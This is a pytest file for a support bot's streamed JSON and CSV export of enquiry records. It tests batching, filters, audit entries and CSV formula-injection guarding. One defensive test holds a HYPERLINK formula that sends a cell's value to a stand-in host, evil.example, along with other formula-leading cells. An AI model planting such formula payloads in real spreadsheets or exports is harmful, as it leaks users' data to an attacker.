"""The streamed export (record contract v3): read in batches, written in chunks, same text as one big dump.

Every test runs on SQLite and on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from typing import Any, Dict, List

import pytest
from sqlalchemy import event, select, update

from bot import constants as c
from bot.cli.main import main
from bot.report import export as written
from bot.store import alerts, corrections, db, export, outbox, records
from bot.store.db import session_scope
from bot.store.models import AuditEvent, Conversation, Mark

S, R = c.STAGE_OUTCOMES, c.STAGE_REVIEW
V1_KEYS = {
    "conversation_id", "enquiry_ref", "stage", "status", "speaker_role", "asked_about_outcomes",
    "outcomes", "feedback", "flags", "confirmed", "started_at", "updated_at",
}


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request: pytest.FixtureRequest) -> str:
    """A fresh records database of each kind, with the session factory pointed at it."""
    return str(request.getfixturevalue("record_db" if request.param == "sqlite" else "pg_record_db"))


def _enquiries(n: int) -> None:
    """n enquiries, each an outcomes record and every other one a review, started a minute apart."""
    base = datetime(2026, 5, 1, 9, 0, 0)
    for i in range(n):
        cid = f"conv-{i:02d}"
        records.start_conversation(cid, S, f"NR-2026-{i:04d}", c.ROLE_PERSON)
        records.save_answer(cid, S, c.CONSENT_TO_TALK, c.YES)
        records.save_answer(cid, S, c.FEELS_SAFE_NOW, [c.YES, c.NO, c.NOT_SURE][i % 3])
        records.add_outcomes(cid, S, [(c.FEEL_SAFER, f"words “{i}” with \"quotes\"\nand a new line"),
                                      (c.POLICE_PROSECUTE, "police to charge him")][: 1 + i % 2])
        if i % 2:
            records.start_conversation(f"rev-{i:02d}", R, f"NR-2026-{i:04d}", c.ROLE_ADVOCATE)
            records.save_answer(f"rev-{i:02d}", R, c.GOALS_MET, c.PARTLY)
        if i % 4 == 0:
            records.set_flag(cid, S, c.FLAG_URGENT_SAFETY, ("webhook",))
    with session_scope() as session:  # distinct start times, a minute apart
        rows = session.execute(select(Conversation).order_by(Conversation.id)).scalars().all()
        for k, row in enumerate(rows):
            row.started_at = base + timedelta(minutes=k)


def test_v2_record_has_answers_corrections_and_alerts(store: str) -> None:
    records.start_conversation("conv-1", S, "NR-2026-0042", c.ROLE_PERSON)
    for name, value in ((c.CONSENT_TO_TALK, c.YES), (c.FEELS_SAFE_NOW, c.NO), (c.WANTS_ADVOCATE, c.NO)):
        records.save_answer("conv-1", S, name, value)
    records.add_outcomes("conv-1", S, [(c.FEEL_SAFER, "i want him to move out")])
    alert_id = records.set_flag("conv-1", S, c.FLAG_URGENT_SAFETY, ("webhook",))
    assert alert_id is not None
    outbox.record_delivery(alert_id, ("webhook",), {"webhook": None})
    alerts.acknowledge(alert_id, "duty@example.org")
    corrections.recode("conv-1", S, 0, c.ABUSER_STAYS_AWAY, "sw@example.org")

    (record,) = export.iter_records()
    assert set(record) == V1_KEYS | {"contract", "answers", "corrections", "alerts",
                                     "withdrawn_outcomes", "safe_contact", "marks", "checkins"}
    assert record["contract"] == 4 and record["checkins"] == []
    assert record["answers"] == {"consent_to_talk": "yes", "feels_safe_now": "no", "wants_advocate": "no"}
    assert record["outcomes"] == [{"code": c.ABUSER_STAYS_AWAY, "own_words": "i want him to move out",
                                   "may_not_be_achievable": False, "achieved": None, "chosen": False,
                                   "withdrawn_at": None, "added_in": "conv-1"}]
    (fix,) = record["corrections"]
    assert {k: v for k, v in fix.items() if k != "at"} == {
        "outcome_index": 0, "from_code": c.FEEL_SAFER, "to_code": c.ABUSER_STAYS_AWAY, "by": "sw@example.org"}
    (alert,) = record["alerts"]
    assert alert["kind"] == c.FLAG_URGENT_SAFETY and alert["delivery"] == c.DELIVERY_SENT
    assert alert["acknowledged_by"] == "duty@example.org"
    for moment in (fix["at"], alert["raised_at"], alert["acknowledged_at"], record["started_at"],
                   record["updated_at"]):
        assert moment.endswith("Z") and datetime.strptime(moment, "%Y-%m-%dT%H:%M:%SZ")


def test_v3_record_has_every_mark_without_words_oldest_first(store: str) -> None:
    records.start_conversation("conv-1", S, "NR-2026-0042", c.ROLE_PERSON)
    records.start_conversation("conv-2", S, "NR-2026-0043", c.ROLE_PERSON)
    records.add_mark("conv-1", S, c.MARK_REVIEW, "neglect_now", "readers-7", "reader p 0.41, neglect_now", "m-2")
    records.add_mark("conv-1", S, c.MARK_CLEAR, "violence_abuse_now", "readers-7", "rule hitting_now", "m-1")
    base = datetime(2026, 5, 1, 9, 0, 0)
    with session_scope() as session:
        for message_id, minutes in (("m-1", 1), ("m-2", 2)):
            session.execute(update(Mark).where(Mark.message_id == message_id)
                            .values(at=base + timedelta(minutes=minutes)))

    found = {r["conversation_id"]: r for r in export.iter_records()}
    assert found["conv-1"]["contract"] == 4
    assert found["conv-1"]["marks"] == [
        {"at": "2026-05-01T09:01:00Z", "tier": c.MARK_CLEAR, "kind": "violence_abuse_now",
         "reader_version": "readers-7"},
        {"at": "2026-05-01T09:02:00Z", "tier": c.MARK_REVIEW, "kind": "neglect_now", "reader_version": "readers-7"},
    ]
    assert found["conv-2"]["marks"] == []
    text = "".join(written.stream_json())
    assert "rule hitting_now" not in text and "reader p" not in text and "m-1" not in text


def test_marks_are_read_with_one_query_per_batch(store: str) -> None:
    _enquiries(9)
    records.add_mark("conv-00", S, c.MARK_REVIEW, "scam_in_progress", "readers-7", "reader p 0.5", "m-1")
    reads: List[str] = []
    engine = db.get_engine(store)

    def seen(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT") and "FROM marks" in statement:
            reads.append(statement)

    event.listen(engine, "before_cursor_execute", seen)
    try:
        found = list(export.iter_records(batch=2))
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert len(found) == 13 and len(reads) == 7  # ceil(13 / 2) batches
    assert [r["marks"][0]["kind"] for r in found if r["marks"]] == ["scam_in_progress"]


def test_newest_first_and_the_same_whatever_the_batch(store: str) -> None:
    _enquiries(9)
    whole = list(export.iter_records(batch=500))
    assert len(whole) == 9 + 4
    starts = [r["started_at"] for r in whole]
    assert starts == sorted(starts, reverse=True)
    for batch in (1, 2, 3, 13, 14):
        assert list(export.iter_records(batch=batch)) == whole
    assert records.export_records() == whole


def test_records_are_read_in_batches(store: str) -> None:
    """batch=2 reads the conversations two at a time: ceil(13 / 2) = 7 reads, each a LIMIT."""
    _enquiries(9)
    reads: List[str] = []
    engine = db.get_engine(store)

    def seen(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT") and "FROM conversations" in statement \
                and "LIMIT" in statement.upper():
            reads.append(statement)

    event.listen(engine, "before_cursor_execute", seen)
    try:
        assert len(list(export.iter_records(batch=2))) == 13
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert len(reads) == 7


def test_filters(store: str) -> None:
    _enquiries(6)
    assert [r["conversation_id"] for r in export.iter_records(enquiry_ref="NR-2026-0003", batch=1)] == [
        "rev-03", "conv-03"]
    moment = datetime(2030, 1, 1)
    with session_scope() as session:
        session.execute(update(Conversation).where(Conversation.conversation_id == "conv-05")
                        .values(updated_at=moment))
    assert [r["conversation_id"] for r in export.iter_records(since=moment)] == ["conv-05"]
    assert "conv-05" not in {r["conversation_id"] for r in export.iter_records(until=moment)}
    assert export.count_records() == 9 and export.count_records(since=moment) == 1
    assert list(export.iter_records(enquiry_ref="none")) == []


def test_json_stream_is_one_valid_array_like_one_big_dump(store: str) -> None:
    _enquiries(7)
    whole = list(export.iter_records())
    for batch in (2, 500):
        text = "".join(written.stream_json(batch=batch))
        assert text == json.dumps(whole, indent=2, ensure_ascii=False) + "\n"
        assert json.loads(text) == whole
    assert "".join(written.stream_json(enquiry_ref="none")) == "[]\n"


def test_json_stream_comes_in_chunks(store: str, monkeypatch: pytest.MonkeyPatch) -> None:
    _enquiries(5)
    monkeypatch.setattr(written, "CHUNK_CHARS", 100)
    chunks = list(written.stream_json(batch=2))
    assert len(chunks) > 5
    assert json.loads("".join(chunks)) == list(export.iter_records())


@pytest.mark.parametrize("value", [
    "plain", "", "“curly” and \"straight\" quotes", "tab\there, new\nline, back\\slash", "\u0000\u001f\u2028",
    "émoji 🙂 and Ünïcode", 0, -7, 10**20, True, False, None, [], {}, [1, [2, []]],
    {"a": {"b": [None, {"c": "d"}]}, "e": []}, 1.5,
])
def test_quick_encoder_writes_what_json_writes(value: Any) -> None:
    for indent in ("", "  "):
        expected = json.dumps({"k": [value]}, indent=2, ensure_ascii=False).replace("\n", "\n" + indent)
        assert written._json({"k": [value]}, indent) == expected


def test_csv_stream_one_row_per_wish_with_the_new_answers(store: str) -> None:
    _enquiries(4)
    for batch in (1, 500):
        rows = list(csv.DictReader(io.StringIO("".join(written.stream_csv(batch=batch)))))
        assert list(rows[0]) == written.CSV_FIELDS
        # conv-00 1 wish, conv-01 2, conv-02 1, conv-03 2; reviews rev-01, rev-03 none (one row each)
        assert len(rows) == 1 + 2 + 1 + 2 + 2
        by_id: Dict[str, List[Dict[str, str]]] = {}
        for row in rows:
            by_id.setdefault(row["conversation_id"], []).append(row)
        assert [r["outcome_code"] for r in by_id["conv-01"]] == [c.FEEL_SAFER, c.POLICE_PROSECUTE]
        assert by_id["conv-01"][0]["outcome_own_words"] == 'words “1” with "quotes"\nand a new line'
        assert by_id["conv-01"][0]["answer_consent_to_talk"] == c.YES
        assert by_id["conv-01"][0]["answer_feels_safe_now"] == c.NO
        assert by_id["rev-01"][0]["outcome_code"] == "" and by_id["rev-01"][0]["feedback_goals_met"] == c.PARTLY
        # every v1 column is still there, in its old place
        assert written.CSV_FIELDS[:26] == [
            "conversation_id", "enquiry_ref", "stage", "status", "speaker_role", "asked_about_outcomes",
            "confirmed", "started_at", "updated_at", "flag_urgent_safety", "flag_advocacy_requested",
            "flag_wants_human_contact", "feedback_goals_met", "feedback_chance_to_say", "feedback_listened_to",
            "feedback_acted_on_wishes", "feedback_feel_safe", "feedback_happier", "feedback_comments",
            "outcome_code", "outcome_own_words", "outcome_may_not_be_achievable", "outcome_achieved",
            "answer_consent_to_talk", "answer_feels_safe_now", "answer_wants_advocate"]
        assert written.CSV_FIELDS[-3:] == ["outcome_added_in", "checkins", "last_checkin_at"], "v4: at the end"


def test_msp_export_streams_v3_and_is_audited(store: str, capsys: pytest.CaptureFixture[str]) -> None:
    _enquiries(3)
    assert main(["export", "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert json.loads(out) == list(export.iter_records())
    assert all(r["contract"] == 4 for r in json.loads(out))
    assert main(["export", "--format", "csv", "--enquiry", "NR-2026-0001"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["conversation_id"] for r in rows} == {"conv-01", "rev-01"}
    with session_scope() as session:
        found = session.execute(
            select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id)
        ).scalars()
        details = [e.detail for e in found]
    assert details == ["format=json enquiry=* records=4", "format=csv enquiry=NR-2026-0001 records=2"]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote_and_json_keeps_the_words(store: str) -> None:
    """OWASP's CSV injection advice: =, +, -, @, tab or carriage return first gets a ' in front, in CSV only."""
    records.start_conversation("conv-1", S, "NR-2026-0042", c.ROLE_PERSON)
    records.add_outcomes("conv-1", S, [(c.FEEL_SAFER, "@SUM(1) i want peace"), (c.POLICE_PROSECUTE, "- him gone")])
    records.start_conversation("rev-1", R, "NR-2026-0042", c.ROLE_PERSON)
    link = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    records.save_answer("rev-1", R, "comments", link)
    text = "".join(written.stream_csv())
    rows = {(r["conversation_id"], r["outcome_code"]): r for r in csv.DictReader(io.StringIO(text))}
    assert rows[("conv-1", c.FEEL_SAFER)]["outcome_own_words"] == "'@SUM(1) i want peace"
    assert rows[("conv-1", c.POLICE_PROSECUTE)]["outcome_own_words"] == "'- him gone"
    assert rows[("rev-1", "")]["feedback_comments"] == "'" + link
    assert rows[("conv-1", c.FEEL_SAFER)]["enquiry_ref"] == "NR-2026-0042", "other cells are as they were"
    by_id = {r["conversation_id"]: r for r in json.loads("".join(written.stream_json()))}
    assert by_id["rev-1"]["feedback"]["comments"] == link
    assert [o["own_words"] for o in by_id["conv-1"]["outcomes"]] == ["@SUM(1) i want peace", "- him gone"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_csv_column_is_guarded_against_formulas(start: str) -> None:
    """Whatever column a value lands in (the guard is in the writer, not in a list of columns)."""
    cell = f"{start}1+1"
    row = {name: cell for name in written._RECORD_FIELDS}
    record = {**row, "flags": {f: cell for f in c.FLAGS},
              "feedback": {q: cell for q in (*c.FEEDBACK_QUESTIONS, "comments")},
              "answers": {a: cell for a in export.ANSWER_FIELDS},
              "outcomes": [{"code": cell, "own_words": cell, "may_not_be_achievable": cell, "achieved": cell,
                            "added_in": cell}],
              "checkins": [{"at": cell}]}
    (row_out,) = list(csv.DictReader(io.StringIO("".join(written.csv_chunks([record])))))
    assert set(row_out) == set(written.CSV_FIELDS)
    assert row_out.pop("checkins") == "1", "v4: how many check-ins (a count, never a formula)"
    assert all(value == "'" + cell for value in row_out.values()), row_out


@pytest.mark.parametrize("value", ["i want peace", "NR-2026-0042", "", "1=1", "a-b", " =not first", 5, None, True])
def test_ordinary_cells_are_left_as_they_are(value: Any) -> None:
    assert written.formula_safe(value) == value
